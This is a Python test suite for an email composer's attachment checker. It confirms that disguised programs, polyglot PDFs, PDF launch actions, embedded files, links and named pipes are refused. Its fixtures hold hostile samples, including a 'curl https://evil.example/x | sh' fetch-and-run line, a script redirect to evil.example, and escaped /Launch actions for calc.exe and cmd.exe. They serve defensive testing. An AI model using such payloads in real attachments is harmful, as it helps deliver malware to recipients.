"""Attachments built to fool the checks: the first bytes decide, polyglots, links, pipes."""

from __future__ import annotations

import io
import os
import random
import subprocess
import sys
import threading
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from composer.appdata.safeopen import NotAFile, open_regular
from composer.attachments import AttachmentRef, check_attachments, inspect_file, verify_unchanged
from composer.attachments.sniff import sniff
from composer.cli import main
from tests.attachment_factory import image_bytes, write_pdf

needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
needs_links = pytest.mark.skipif(sys.platform == "win32", reason="symbolic links need rights")


def pdf_bytes(tmp_path: Path, text: str = "Invoice 113-4567890-1234567") -> bytes:
    return write_pdf(tmp_path / "source.pdf", text).read_bytes()


def windows_program() -> bytes:
    """An MZ header whose pointer at 0x3C leads to a PE header, as in every Windows program."""
    return (b"MZ\x90\x00" + b"\x00" * 56 + (0x80).to_bytes(4, "little") + b"\x00" * 64
            + b"PE\x00\x00\x4c\x01" + b"\x00" * 200)


def zip_holding(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


# -- the first bytes decide -----------------------------------------------------------------

LEADING = {
    "exe": windows_program(),
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    "macho": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56,
    "script": b"#!/bin/sh\ncurl https://evil.example/x | sh\n",
    "zip": zip_holding("setup.exe", windows_program()),
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40,
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40,
    "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 40,
    "html": b"<html><body><script>alert(1)</script>\n",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
    "xml": b'<?xml version="1.0"?><order><total>1</total></order>\n',
}


@pytest.mark.parametrize("kind", sorted(LEADING))
def test_a_signature_at_offset_0_wins_over_a_later_pdf(tmp_path: Path, kind: str) -> None:
    """Issue trigger: "%PDF-" within the first KB made a program or a web page a PDF."""
    data = LEADING[kind] + b"\n" + pdf_bytes(tmp_path)
    assert data.find(b"%PDF-") < 1024
    assert sniff(data).kind == kind
    path = tmp_path / "invoice.pdf"
    path.write_bytes(data)
    findings = check_attachments([path])
    assert [(f.rule, f.severity) for f in findings] == [("attachment-type", "block")]
    assert "renamed to .pdf" in findings[0].message


def test_check_and_export_refuse_a_program_that_mentions_pdf(tmp_path: Path, capsys) -> None:
    attachment = tmp_path / "invoice.pdf"
    attachment.write_bytes(windows_program() + pdf_bytes(tmp_path))
    message = tmp_path / "m.txt"
    message.write_text("Your invoice for order 113-4567890-1234567 is attached.")
    assert main(["check", "--attach", str(attachment), str(message)]) == 1
    assert "Windows program" in capsys.readouterr().out
    out = tmp_path / "m.eml"
    assert main(["export", str(message), "--eml", str(out), "--attach", str(attachment),
                 "--no-log"]) == 1
    assert not out.exists()


def test_blank_space_before_a_pdf_is_still_a_pdf(tmp_path: Path) -> None:
    found = sniff(b"\r\n  " + pdf_bytes(tmp_path))
    assert (found.kind, found.concerns) == ("pdf", ())


def test_a_text_that_mentions_pdf_is_still_text() -> None:
    assert sniff(b"Our files start with %PDF-1.7, as every PDF does.\n").kind == "text"


def test_other_data_before_a_pdf_blocks(tmp_path: Path) -> None:
    path = tmp_path / "invoice.pdf"
    path.write_bytes(b"\x01\x02\x03junk\x90" + pdf_bytes(tmp_path))
    findings = check_attachments([path])
    assert [(f.rule, f.severity) for f in findings] == [("attachment-type", "block")]
    assert "8 bytes of something else come before the PDF" in findings[0].message


# -- polyglots --------------------------------------------------------------------------------

def test_an_honest_pdf_with_random_streams_raises_nothing(tmp_path: Path) -> None:
    # Compressed pictures hold "/EF" plus a delimiter by chance (about once per 300 MB of
    # noise); here it is put in on purpose, in the spellings chance makes.
    chance = b"\x91/EF)\x07", b"/EF ]", b"/E#46/\xfe", b"/EmbeddedFile\x00", b"/EmbeddedFiles 12"
    noise = bytearray(random.Random(20261206).randbytes(1 << 16))
    for number, found in enumerate(chance):
        noise[4096 * (number + 1) : 4096 * (number + 1) + len(found)] = found
    data = pdf_bytes(tmp_path).replace(b"%%EOF", b"")
    data += b"6 0 obj\n<< /Length %d >>\nstream\n" % len(noise) + bytes(noise)
    data += b"\nendstream\n%%EOF\n"
    assert sniff(data).concerns == ()


@pytest.mark.parametrize("spec", [
    b"/EF << /F 7 0 R >>", b"/EF<</F 7 0 R>>", b"/EF 8 0 R", b"/E#46 << /F 7 0 R >>",
])
def test_a_file_specification_attaches_a_file_however_it_is_written(tmp_path: Path,
                                                                     spec: bytes) -> None:
    data = _with_catalog(pdf_bytes(tmp_path), b"/AF [<< /Type /Filespec /F (data.xml) " + spec
                         + b" >>]")
    assert [c.key for c in sniff(data).concerns] == ["pdf-files"]


@pytest.mark.parametrize(("tail", "hidden"), [
    (windows_program(), "Windows program"),
    (zip_holding("setup.exe", b"not really a program"), "ZIP archive"),
    (b"<html><script>location='https://evil.example'</script></html>", "web page"),
    (b"Rar!\x1a\x07\x00" + b"\x00" * 30, "RAR archive"),
])
def test_a_pdf_with_something_after_its_end_is_refused(tmp_path: Path, tail: bytes,
                                                        hidden: str) -> None:
    path = tmp_path / "invoice.pdf"
    path.write_bytes(pdf_bytes(tmp_path) + tail)
    findings = check_attachments([path])
    assert [(f.rule, f.severity) for f in findings] == [("attachment-type", "block")]
    assert f"opens as a PDF document, but a {hidden}" in findings[0].message.replace(
        "an ", "a ")


def test_a_program_inside_a_pdf_or_a_picture_is_refused(tmp_path: Path) -> None:
    pdf = pdf_bytes(tmp_path)
    inside = pdf[:300] + windows_program() + pdf[300:]
    assert [c.key for c in sniff(inside).concerns] == ["hidden-content"]
    for fmt, name in (("JPEG", "photo.jpg"), ("PNG", "photo.png"), ("GIF", "photo.gif")):
        path = tmp_path / name
        path.write_bytes(image_bytes(fmt) + zip_holding("run.exe", windows_program()))
        rules = [(f.rule, f.severity) for f in check_attachments([path])]
        assert rules == [("attachment-type", "block")], name


def _with_catalog(pdf: bytes, extra: bytes) -> bytes:
    return pdf.replace(b"/Type /Catalog", b"/Type /Catalog " + extra)


@pytest.mark.parametrize("action", [
    b"/OpenAction << /S /Launch /F (calc.exe) >>",
    b"/OpenAction << /S /L#61unch /F (calc.exe) >>",  # the same name, one letter escaped
    b"/OpenAction << /S /#4C#61#75#6E#63#68 /F (calc.exe) >>",
])
def test_a_pdf_that_starts_a_program_is_refused(tmp_path: Path, action: bytes) -> None:
    path = tmp_path / "manual.pdf"
    path.write_bytes(_with_catalog(pdf_bytes(tmp_path), action))
    findings = check_attachments([path])
    assert [(f.rule, f.severity) for f in findings] == [("attachment-type", "block")]
    assert "start a program" in findings[0].message


def test_a_launch_action_inside_a_compressed_object_stream_is_found(tmp_path: Path) -> None:
    body = zlib.compress(b"10 0 << /Type /Action /S /Launch /F (cmd.exe) >>")
    data = pdf_bytes(tmp_path).replace(b"%%EOF\n", b"")
    data += (b"9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\n"
             b"stream\n" % len(body)) + body + b"\nendstream\nendobj\n%%EOF\n"
    assert [c.key for c in sniff(data).concerns] == ["pdf-launch"]


def test_files_carried_by_a_pdf_are_a_warning_and_a_program_among_them_blocks(
        tmp_path: Path) -> None:
    spec = b"/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (%s) /EF << >> >>] >> >>"
    invoice = tmp_path / "e-invoice.pdf"
    invoice.write_bytes(_with_catalog(pdf_bytes(tmp_path), spec % b"factur-x.xml"))
    findings = check_attachments([invoice])
    assert [(f.rule, f.severity) for f in findings] == [("attachment-type", "warn")]
    assert "files attached inside it (“factur-x.xml”)" in findings[0].message
    # A UTF-16 hex string naming a program.
    name = b"<" + ("\ufeffsetup.exe".encode("utf-16-be").hex().upper().encode()) + b">"
    spec = spec.replace(b"/F (%s)", b"/UF %s")
    trap = tmp_path / "manual.pdf"
    trap.write_bytes(_with_catalog(pdf_bytes(tmp_path), spec % name))
    findings = check_attachments([trap])
    assert [(f.rule, f.severity) for f in findings] == [("attachment-type", "block")]
    assert "“setup.exe”" in findings[0].message


def test_a_pdf_too_tangled_to_check_is_refused_quickly(tmp_path: Path) -> None:
    data = pdf_bytes(tmp_path) + b"/ObjStm stream\nx\nendstream\n" * 200_000
    found = sniff(data)
    assert [c.key for c in found.concerns] == ["pdf-unchecked"]


# -- links and special files ------------------------------------------------------------------

@needs_links
def test_a_link_to_a_file_of_another_name_is_refused_and_named(tmp_path: Path) -> None:
    """Issue trigger: a link to /etc/passwd named x.txt was attached as x.txt."""
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n")
    link = tmp_path / "x.txt"
    link.symlink_to(secret)
    info = inspect_file(link)
    assert info.link_target == secret.resolve() and info.name == "x.txt"
    findings = check_attachments([link])
    assert [(f.rule, f.severity) for f in findings] == [("attachment-link", "block")]
    assert f"“x.txt” is a link to “{secret.resolve()}”" in findings[0].message


@needs_links
def test_a_link_to_a_file_of_the_same_name_is_a_warning(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    target = write_pdf(tmp_path / "real" / "invoice.pdf")
    link = tmp_path / "invoice.pdf"
    link.symlink_to(target)
    findings = check_attachments([link])
    assert [(f.rule, f.severity) for f in findings] == [("attachment-link", "warn")]
    assert str(target.resolve()) in findings[0].message


@needs_links
def test_broken_and_looping_links_are_unreadable(tmp_path: Path) -> None:
    dangling = tmp_path / "gone.pdf"
    dangling.symlink_to(tmp_path / "nowhere.pdf")
    loop_a, loop_b = tmp_path / "a.pdf", tmp_path / "b.pdf"
    loop_a.symlink_to(loop_b)
    loop_b.symlink_to(loop_a)
    for path in (dangling, loop_a):
        info = inspect_file(path)
        assert not info.readable and info.problem_key == "link-nowhere"
        assert "is a link to" in (info.problem or "")


@needs_links
def test_two_links_to_one_file_are_inspected_apart(tmp_path: Path) -> None:
    from composer.attachments import InspectCache

    target = write_pdf(tmp_path / "invoice.pdf")
    other = tmp_path / "other.pdf"
    other.symlink_to(target)
    cache = InspectCache()
    assert inspect_file(target, cache).link_target is None
    assert inspect_file(other, cache).name == "other.pdf"


def _finishes(work, seconds: float = 10.0):
    """Run ``work`` on a thread; fail (instead of hanging the suite) if it doesn't return."""
    result: list = []
    thread = threading.Thread(target=lambda: result.append(work()), daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), "blocked"
    return result[0]


@needs_fifo
def test_a_pipe_is_refused_in_plain_words_without_waiting(tmp_path: Path) -> None:
    pipe = tmp_path / "label.pdf"
    os.mkfifo(pipe)
    info = _finishes(lambda: inspect_file(pipe))
    assert info.problem_key == "not-a-file" and "named pipe" in (info.problem or "")


@needs_fifo
def test_a_file_swapped_for_a_pipe_after_the_stat_is_not_waited_on(
        tmp_path: Path, monkeypatch) -> None:
    pipe = tmp_path / "label.pdf"
    os.mkfifo(pipe)
    regular = os.stat(write_pdf(tmp_path / "real.pdf"))
    real_stat = os.stat
    monkeypatch.setattr(os, "stat", lambda p, *a, **k: regular if Path(p) == pipe
                        else real_stat(p, *a, **k))

    def attempt() -> str:
        try:
            open_regular(pipe).close()
        except NotAFile as error:
            return error.kind
        return "opened"

    assert _finishes(attempt) == "pipe"


@pytest.mark.skipif(not Path("/dev/null").is_char_device(), reason="needs /dev/null")
def test_a_device_is_refused() -> None:
    info = inspect_file("/dev/null")
    assert info.problem_key == "not-a-file" and "device" in (info.problem or "")


@needs_fifo
def test_a_reference_that_became_a_pipe_says_so(tmp_path: Path) -> None:
    path = write_pdf(tmp_path / "invoice.pdf")
    ref = AttachmentRef.from_info(inspect_file(path))
    path.unlink()
    os.mkfifo(path)
    assert "it is now a named pipe" in (_finishes(lambda: verify_unchanged(ref)) or "")


@needs_fifo
def test_check_on_a_pipe_with_no_writer_exits_2_at_once(tmp_path: Path) -> None:
    """Issue trigger: ``check`` on a FIFO with no writer waited forever."""
    pipe = tmp_path / "message.txt"
    os.mkfifo(pipe)
    for command in (["check"], ["clean"], ["export", "--eml", str(tmp_path / "o.eml")]):
        args = [*command[:1], str(pipe), *command[1:]]
        result = subprocess.run([sys.executable, "-m", "composer", *args],
                                capture_output=True, text=True, timeout=30)
        assert result.returncode == 2, (command, result.stderr)
        assert result.stderr.count("\n") == 1 and "named pipe" in result.stderr


# -- no input makes the sniffer fail or call a program a PDF ----------------------------------

BOUNDED = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@BOUNDED
@given(st.binary(max_size=4096), st.booleans())
def test_random_bytes_never_raise(data: bytes, complete: bool) -> None:
    found = sniff(data, complete=complete)
    assert found.kind and all(c.severity in ("block", "warn") for c in found.concerns)


@BOUNDED
@given(st.sampled_from(sorted(LEADING)), st.binary(max_size=600), st.binary(max_size=600),
       st.sampled_from([b"%PDF-1.4\n", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", b"%PDF-"]))
def test_a_leading_signature_is_never_called_a_pdf(kind: str, middle: bytes, tail: bytes,
                                                   marker: bytes) -> None:
    data = LEADING[kind] + middle + marker + tail + b"\n%%EOF\n"
    assert sniff(data).kind != "pdf"
    assert sniff(data, complete=False).kind != "pdf"


@BOUNDED
@given(st.binary(max_size=2000), st.binary(max_size=2000))
def test_a_program_anywhere_in_a_pdf_is_found(before: bytes, after: bytes) -> None:
    data = b"%PDF-1.4\n" + before + windows_program() + after + b"\n%%EOF\n"
    assert any(c.key == "hidden-content" for c in sniff(data).concerns)
